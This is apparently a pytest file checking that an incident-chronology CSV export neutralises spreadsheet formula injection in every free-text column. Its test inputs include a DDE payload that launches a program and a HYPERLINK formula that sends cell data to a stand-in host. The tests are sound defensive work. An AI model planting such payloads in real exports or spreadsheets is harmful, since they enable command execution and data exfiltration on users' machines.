"""The chronology CSV runs no formula in a spreadsheet: whatever an agency's record or a
practitioner wrote, in any column, is written as text (CSV injection, issue 13 finding 6)."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from seen.incidents.chronology import Chronology, Row
from seen.incidents.export import as_csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = (
    "=cmd|' /c calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"open")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_no_cell_in_any_column_starts_a_formula(hostile: str) -> None:
    row = Row(
        on=date(2025, 6, 2),
        agency=hostile,
        area=hostile,
        what=hostile,
        detail=hostile,
        about=hostile,
        source=hostile,
        reached=None,
    )
    written = as_csv(
        Chronology(reference="P1", names=[], dob=None, incidents=[], rows=[row], agencies=[])
    )
    header, cells = list(csv.reader(io.StringIO(written, newline="")))
    assert header[0] == "date"
    formulas = [c for c in cells if c.lstrip(" ").startswith(FORMULA_STARTS)]
    assert formulas == []
    assert cells.count("'" + hostile) == 6  # each free-text column, kept as text
